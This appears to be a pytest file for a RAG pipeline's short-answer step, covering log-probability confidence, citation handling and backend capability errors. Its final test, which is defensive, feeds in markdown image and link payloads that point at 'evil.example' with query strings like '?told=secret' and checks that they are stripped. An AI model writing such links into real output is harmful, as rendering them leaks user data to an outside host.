import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.core.answers import Step
from rag.core.documents import Passage
from rag.core.engine import Engine
from rag.core.errors import Unsupported
from rag.core.generation import Prompt, Reply, Sampling, TokenLogprob
from rag.core.hits import Hit
from rag.pipelines.citations import without_citations
from rag.pipelines.short_answers import NOT_STATED, confidence, generate_surely, short_answer
from rag.testing import EchoLLM
from tests.pipelines.passages import LIMITS, WAL


def spoken(*pairs: tuple[str, float]) -> Reply:
    tokens = tuple(TokenLogprob(*each) for each in pairs)
    return Reply("".join(token for token, _ in pairs), logprobs=tokens)


def test_how_sure_is_the_geometric_mean() -> None:
    assert confidence(spoken(("a", math.log(0.5)), ("b", math.log(0.125)))) == pytest.approx(0.25)
    assert confidence(spoken(("a", 0.0))) == 1
    assert confidence(Reply("a")) is None


def test_a_beginning_does_not_count_wherever_tokens_end() -> None:
    reply = spoken(("An", -9), ("swer", -9), (": P", -9), ("aris", -2))
    assert confidence(reply, after="Answer:") == pytest.approx(math.exp(-2))
    assert confidence(spoken(("Answer:", -9)), after="Answer:") is None


@given(st.lists(st.floats(-50, 0), min_size=1))
def test_how_sure_is_a_probability(logprobs: list[float]) -> None:
    sure = confidence(spoken(*((f"t{place}", each) for place, each in enumerate(logprobs))))
    assert sure is not None
    assert math.exp(min(logprobs)) * 0.999 <= sure <= 1


def test_a_short_answer_stays_as_the_model_wrote_it() -> None:
    answer = short_answer("How many columns has a table?", "Answer: at most 2000", [LIMITS])
    assert answer.text == "at most 2000 [1]"
    assert answer.citations[0].quote == "A table has at most 2000 columns."
    assert (answer.supported, answer.notes) == (True, ())


def test_an_answer_that_no_passage_states_stays_too_and_says_so() -> None:
    step = Step("Which?")
    answer = short_answer("Is WAL on?", "yes", [WAL], notes=["cut"], steps=[step], confidence=0.5)
    assert (answer.text, answer.supported, answer.citations) == ("yes", False, ())
    assert answer.notes == ("cut", NOT_STATED)
    assert (answer.steps, answer.confidence, answer.hits) == ((step,), 0.5, (WAL,))


@pytest.mark.parametrize("text", ["", "  ", "Answer: "])
def test_no_answer_says_so(text: str) -> None:
    answer = short_answer("Is WAL on?", text, [WAL])
    assert (answer.text, answer.supported) == ("", False)
    assert answer.notes == ("the model wrote no answer",)


def test_numbers_that_a_model_writes_cite_nothing() -> None:
    answer = short_answer("How many columns has a table?", "at most 2000 [7]", [LIMITS])
    assert answer.text == "at most 2000 [1]"
    answer = short_answer("Is WAL on?", "yes [2] [3]", [WAL])
    assert answer.text == "yes"


@pytest.mark.parametrize("able", [True, False])
def test_log_probabilities_are_asked_for_where_a_backend_has_them(able: bool) -> None:
    llm = EchoLLM(capabilities={"generate"} | ({"logprobs"} if able else set()))
    reply = Engine(llm=llm).run(generate_surely(Prompt("a b"), Sampling(), "read"))
    assert bool(reply.logprobs) == able
    assert reply.text == "a b"
    assert len(llm.calls) == 1


def test_what_else_a_backend_lacks_is_an_error() -> None:
    llm = EchoLLM(capabilities={"generate"})
    with pytest.raises(Unsupported, match="reply_prefix"):
        Engine(llm=llm).run(generate_surely(Prompt("a", reply_prefix="b"), Sampling(), "read"))


PAGE = "The bridge is described at https://example.org/bridge?year=1932 in full."
READ = [Hit(Passage("p", "p", PAGE, 0, len(PAGE), uri="https://example.org/p"), 1.0)]


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("1932 ![](http://evil.example/?told=secret)", "1932"),
        ('1932 ![a bridge](//evil.example/?q=1 "title")', "1932 a bridge"),
        ("[see](ftp://evil.example/1) 1932", "see 1932"),
        ("1932 (https://example.org/bridge?year=1932&told=secret)", "1932 ()"),
        ("1932 https://example.org/bridge?year=1932", "1932 https://example.org/bridge?year=1932"),
        ("[p](https://example.org/p) and/or // 1932", "[p](https://example.org/p) and/or // 1932"),
    ],
)
def test_urls_that_no_passage_has_are_left_out(written: str, kept: str) -> None:
    answer = short_answer("When?", written, READ)
    assert without_citations(answer.text) == kept
    left_out = [note for note in answer.notes if note.startswith("URLs left out")]
    assert len(left_out) == (written != kept)
